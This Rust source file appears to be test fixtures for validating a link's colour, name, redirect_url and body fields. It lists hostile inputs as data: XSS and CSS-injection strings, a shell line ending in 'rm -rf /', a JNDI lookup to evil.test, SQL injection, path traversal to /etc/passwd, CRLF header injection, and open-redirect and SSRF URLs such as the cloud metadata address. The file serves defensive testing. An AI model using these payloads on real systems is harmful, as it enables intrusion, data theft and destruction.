//! The rows.

use serde_json::{Value, json};

use super::{Row, Shows};

pub(super) fn rows() -> Vec<Row> {
    [colours(), names(), ways_back(), bodies()]
        .into_iter()
        .flatten()
        .collect()
}

fn row(name: impl Into<String>, body: Value, shows: Shows) -> Row {
    Row {
        name: name.into(),
        body,
        shows,
    }
}

/// What is no colour, for each of the four colours that a link may have.
fn colours() -> Vec<Row> {
    let long = format!("#{}", "f".repeat(10_000));
    let wrong = [
        ("a name", json!("red")),
        ("a digit that is none", json!("#gggggg")),
        ("two digits", json!("#ff")),
        ("four digits", json!("#ff00")),
        ("five digits", json!("#ff00f")),
        ("eight digits", json!("#ff00ff80")),
        ("three digits without a sign", json!("f0f")),
        ("two signs", json!("##ff00ff")),
        ("a minus", json!("#-f00ff")),
        ("digits in full width", json!("#ｆｆ００ｆｆ")),
        ("digits of another script", json!("#١٢٣٤٥٦")),
        ("a blank within", json!("#ff 0ff")),
        ("a function", json!("rgb(255,0,255)")),
        ("a variable", json!("var(--accent)")),
        ("a keyword", json!("currentColor")),
        ("a picture", json!("url(https://evil.test/x.png)")),
        ("an expression", json!("expression(alert(1))")),
        (
            "a second property",
            json!("#ff00ff;background:url(//evil.test)"),
        ),
        ("the end of a rule", json!("#fff}*{display:none}")),
        ("an import", json!("#fff;}@import '//evil.test/a.css';{")),
        (
            "the end of the style",
            json!("</style><script>alert(1)</script>"),
        ),
        ("a comment", json!("#ff00ff/*")),
        ("an escape of CSS", json!("\\23 ff00ff")),
        ("importance", json!("#ff00ff!important")),
        ("NUL behind it", json!("#ff00ff\0")),
        ("10 kB", json!(long)),
        ("a number", json!(0x00ff_00ff)),
        ("true", json!(true)),
        ("a list", json!([255, 0, 255])),
        ("an object", json!({ "r": 255, "g": 0, "b": 255 })),
    ];
    let mut rows = Vec::new();
    for key in ["color", "bgColor", "base_color", "button_color"] {
        for (what, value) in &wrong {
            let body = json!({ (key): value });
            rows.push(row(format!("{key}: {what}"), body, Shows::Nothing));
        }
    }
    for (what, key) in [
        ("in other letters", "BGCOLOR"),
        ("with a blank", "bgColor "),
        ("of a prototype", "__proto__"),
    ] {
        let body = json!({ (key): "#ff00ff" });
        rows.push(row(format!("a colour's key {what}"), body, Shows::Nothing));
    }
    rows
}

/// Names: what stands on the page is text.
fn names() -> Vec<Row> {
    let shown = |what: &str, sent: &str, shows: &str| {
        row(
            format!("name: {what}"),
            json!({ "name": sent }),
            Shows::Name(shows.to_owned()),
        )
    };
    let same = |what: &str, text: &str| shown(what, text, text);
    let long = "n".repeat(10_000);
    let marks = format!("Glo{}bex", "\u{200b}".repeat(1000));
    let accents = format!("Z{}", "\u{301}".repeat(119));
    let mut rows = vec![
        same("a script", "<script>alert(1)</script>"),
        same("a picture", "<img src=x onerror=alert(1)>"),
        same("a picture in a vector", "<svg/onload=alert(1)>"),
        same("the end of a title", "</title><script>alert(1)</script>"),
        same("the end of an attribute", "\"><script>alert(1)</script>"),
        same("the end of another attribute", "'onmouseover='alert(1)"),
        same("the end of a comment", "--><b>"),
        same("the end of a style", "</style><b>"),
        same("an entity", "&lt;b&gt; &#x3c; &amp;"),
        same("a frame", "<iframe src=javascript:alert(1)>"),
        same("a base", "<base href=//evil.test>"),
        same("a form", "<form action=//evil.test>"),
        same(
            "a refresh",
            "<meta http-equiv=refresh content=0;url=//evil.test>",
        ),
        same("an address", "https://evil.test/login"),
        same("a script's address", "javascript:alert(1)"),
        same("braces", "{{7*7}} {%x%}"),
        same("a shell", "$(id) `id` ; rm -rf /"),
        same("a lookup", "${jndi:ldap://evil.test/a}"),
        same("SQL", "'; DROP TABLE linked_accounts; --"),
        same("a format", "%s%n%x {0} {}"),
        same("a path", "../../etc/passwd"),
        same("a CDATA section", "<![CDATA[x]]>"),
        same("another script", "Глобекс 株式会社"),
        same("a hieroglyph", "𓂀 𝄞"),
        same("a family", "Fam\u{e9}"),
        same("many accents", &accents),
        same("undefined", "undefined"),
        shown("a line break", "Glo\nbex", "Glo bex"),
        shown(
            "a carriage return",
            "Glo\r\nSet-Cookie: a=b",
            "Glo Set-Cookie: a=b",
        ),
        shown("a line of another kind", "Glo\u{2028}bex", "Glo bex"),
        shown("blanks", "  Globex \t  Inc  ", "Globex Inc"),
        shown("NUL", "Glo\0bex", "Globex"),
        shown("ESC", "\u{1b}[31mGlobex", "[31mGlobex"),
        shown("DEL", "Glo\u{7f}bex", "Globex"),
        shown(
            "a turn of the text",
            "Globex \u{202e}xeblog",
            "Globex xeblog",
        ),
        shown("an isolate", "Glo\u{2066}bex\u{2069}", "Globex"),
        shown("1000 invisible marks", &marks, "Globex"),
        shown("a byte order mark", "\u{feff}Globex", "Globex"),
        shown("10,000 letters", &long, &long[..120]),
    ];
    for (what, value) in [
        ("empty", json!("")),
        ("blanks alone", json!(" \n\t ")),
        ("invisible marks alone", json!("\u{200b}\u{202e}\u{feff}")),
        ("NUL alone", json!("\0")),
        ("a number", json!(7)),
        ("true", json!(true)),
        ("a list", json!(["Globex"])),
        ("an object", json!({ "de": "Globex" })),
    ] {
        rows.push(row(
            format!("name: {what}"),
            json!({ "name": value }),
            Shows::Nothing,
        ));
    }
    rows
}

/// Addresses to return to that the project did not register.
fn ways_back() -> Vec<Row> {
    let texts = [
        "https://evil.test/",
        "//evil.test",
        "https:evil.test",
        "/\\evil.test",
        "\\\\evil.test",
        "https://app.acme.test/integrations",
        "https://localhost.evil.test/",
        "https://localhost@evil.test/",
        "https://user@localhost/",
        "https://evil.test#@localhost/",
        "https://evil.test\\@localhost/",
        "https://evil.test/?http://localhost/",
        "https://evil.test:80@localhost:443@evil.test/",
        "javascript:alert(1)",
        "javascript://localhost/%0aalert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\nscript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "vbscript:x",
        "file:///etc/passwd",
        "ftp://localhost/",
        "blob:http://localhost/x",
        "about:blank",
        "intent://localhost/#Intent;end",
        "http://127.1.evil.test/",
        "http://127.0.0.1.nip.io/",
        "http://localhost.localdomain/",
        "http://0.0.0.0/",
        "http://[::ffff:8.8.8.8]/",
        "http://169.254.169.254/latest/meta-data",
        "http://10.0.0.1/",
        "http://①②⑧.①",
        "https://xn--nonsense-/",
        "https://",
        "relative",
        "/c/page_x",
        "?a=b",
        "#x",
        "",
    ];
    let mut rows: Vec<Row> = texts
        .into_iter()
        .map(|text| {
            row(
                format!("redirect_url: {text:?}"),
                json!({ "redirect_url": text }),
                Shows::Nothing,
            )
        })
        .collect();
    for (what, value) in [
        ("a number", json!(1)),
        ("true", json!(true)),
        ("a list", json!(["http://localhost/"])),
        ("an object", json!({ "url": "http://localhost/" })),
        ("NUL behind it", json!("http://localhost:99999/\0")),
    ] {
        rows.push(row(
            format!("redirect_url: {what}"),
            json!({ "redirect_url": value }),
            Shows::Nothing,
        ));
    }
    rows
}

/// Bodies of another shape than a link's.
fn bodies() -> Vec<Row> {
    let deep = (0..100).fold(json!(1), |inner, _| json!([inner]));
    let shapes = [
        ("a text", json!("#ff00ff")),
        ("a number", json!(1)),
        ("true", json!(true)),
        ("a list", json!([{ "bgColor": "#ff00ff" }])),
        ("a list too deep to read", deep),
        (
            "a colour further in",
            json!({ "theme": { "bgColor": "#ff00ff" } }),
        ),
        (
            "an origin that nobody registered",
            json!({ "allowed_origins": ["https://evil.test", "*"] }),
        ),
        (
            "an origin with a directive",
            json!({ "allowed_origins": ["https://a.test; script-src *"] }),
        ),
        (
            "styles",
            json!({ "css": "*{display:none}", "style": "body{}", "custom_css": "@import '//evil.test'" }),
        ),
        (
            "scripts",
            json!({ "script": "alert(1)", "onload": "alert(1)", "head": "<script>" }),
        ),
        (
            "a logo",
            json!({ "logo": "https://evil.test/x.png", "icon": "//evil.test/x.ico" }),
        ),
        ("NUL in a key", json!({ "a\0b": "c\0d" })),
        (
            "large numbers",
            json!({ "a": 1e308, "b": u64::MAX, "c": i64::MIN }),
        ),
    ];
    shapes
        .into_iter()
        .map(|(what, body)| row(format!("body: {what}"), body, Shows::Nothing))
        .collect()
}
